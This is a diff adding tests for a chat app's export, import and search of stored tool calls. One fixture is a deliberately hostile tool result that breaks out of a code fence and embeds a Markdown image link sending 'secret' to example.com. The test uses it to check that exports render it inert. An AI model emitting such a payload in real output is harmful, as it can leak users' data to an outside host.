@@ -1,0 +1,103 @@
+import { unzipSync } from 'fflate'
+import { afterEach, beforeEach, expect, test } from 'vitest'
+import { MediaLibrary } from '../../../../src/main/media/library.ts'
+import { Conversations } from '../../../../src/main/storage/conversations.ts'
+import { Database } from '../../../../src/main/storage/database.ts'
+import { MediaItems } from '../../../../src/main/storage/media-items.ts'
+import { Messages } from '../../../../src/main/storage/messages.ts'
+import { databasePath, openStorage } from '../../../../src/main/storage/open.ts'
+import { ToolCalls } from '../../../../src/main/storage/tool-calls.ts'
+import { everything } from '../../../../src/shared/history-query.ts'
+import { pictures } from '../../../fakes/pictures.ts'
+import { conversation, storedCall, storedMessage } from '../../../fakes/storage.ts'
+import { TransferApp } from '../../../fakes/transfer.ts'
+
+const apps: TransferApp[] = []
+let from: TransferApp
+
+beforeEach(async () => {
+  from = await started(answerWithCalls)
+})
+
+afterEach(async () => {
+  for (const app of apps.splice(0)) {
+    await app.close()
+    app.remove()
+  }
+})
+
+async function started(fill?: (folder: string) => Promise<void>): Promise<TransferApp> {
+  const app = await TransferApp.start(fill)
+  apps.push(app)
+  return app
+}
+
+/** An answer with two rounds: a long result with its file and a picture, a denied call, and one whose end is not known. */
+async function answerWithCalls(folder: string): Promise<void> {
+  const { database } = openStorage(folder, 1)
+  const library = new MediaLibrary(folder, new MediaItems(database), () => 5)
+  const file = await library.add(Buffer.from('a long result'), { mime: 'text/plain', width: null, height: null })
+  const picture = await library.add(pictures.png, { mime: 'image/png', width: 37, height: 21 })
+  const messages = new Messages(database)
+  const chat = conversation('c', { title: 'With tools' })
+  new Conversations(database).insert(chat)
+  messages.insert(storedMessage('m1'))
+  messages.insert(storedMessage('m2', { role: 'assistant', parentId: 'm1', text: 'Look: and done.' }))
+  new Conversations(database).update({ ...chat, leafId: 'm2' })
+  const calls = new ToolCalls(database)
+  const round = { messageId: 'm2', connectionId: 'gone', model: 'm', textEnd: 5 }
+  calls.insert({ ...round, round: 0, replay: { reasoning_content: 'hm' } }, [
+    storedCall('k1', { messageId: 'm2', resultFile: file, media: [picture], isUntrusted: true, result: hostile }),
+    storedCall('k2', { messageId: 'm2', position: 1, state: 'denied', editedArguments: '{"x":2}', extra: { s: 1 } }),
+  ])
+  calls.insert({ ...round, round: 1, replay: {} }, [
+    storedCall('k3', { messageId: 'm2', round: 1, state: 'unknown', tool: null, hints: null, askReason: null }),
+  ])
+  database.close()
+}
+
+/** Markdown that would load a picture, and end a block of code. */
+const hostile = '```\n![](https://example.com/?d=secret)\n小灯塔'
+
+function callsIn(folder: string): readonly unknown[] {
+  const database = new Database(databasePath(folder), { readonly: true })
+  try {
+    const tables = ['answer_rounds', 'tool_calls', 'tool_call_media']
+    return tables.map((table) => database.prepare(`SELECT * FROM ${table}`).all())
+  } finally {
+    database.close()
+  }
+}
+
+test('calls of tools are the same where they are taken in, with their files', async () => {
+  await from.call('transfer.export', { keys: null })
+  const to = await started()
+  const token = to.give(from.exported(), 'Atelier.zip')
+  const { added } = await to.call('transfer.import', { token })
+  expect([added.conversations, added.files]).toEqual([1, 2])
+  expect(callsIn(to.folder)).toEqual(callsIn(from.folder))
+  const { page } = await to.call('chat.open', { conversationId: 'c', limit: 10 })
+  expect(page.messages[1]?.attachments).toEqual([])
+  expect(page.messages[1]?.calls?.map(({ media, resultFile }) => [media.length, resultFile !== null])).toEqual([
+    [1, true],
+    [0, false],
+    [0, false],
+  ])
+})
+
+test('a written chat shows calls where they were made, and nothing in them is Markdown', async () => {
+  await from.call('transfer.export', { keys: null })
+  const files = unzipSync(from.exported())
+  const path = Object.keys(files).find((name) => name.endsWith('.md') && name.startsWith('chats/')) ?? ''
+  const text = Buffer.from(files[path] ?? '').toString()
+  const block = `\`\`\`\`text\ncalculator {"expression":"1 + 1"}\n\n${hostile}\n\`\`\`\``
+  expect(text).toContain(`Look:\n\n${block}`)
+  expect(text.trimEnd().endsWith('and done.')).toBe(true)
+})
+
+test('the search finds the words of a result, in the message that called the tool', async () => {
+  const search = { text: '小灯塔', filter: everything, limit: 5, next: null }
+  let found = await from.call('history.search', search)
+  while (found.indexed < 1 || found.items.length === 0) found = await from.call('history.search', search)
+  expect(found.items.map(({ hits }) => hits.map(({ part, partId }) => [part, partId]))).toEqual([[['message', 'm2']]])
+})
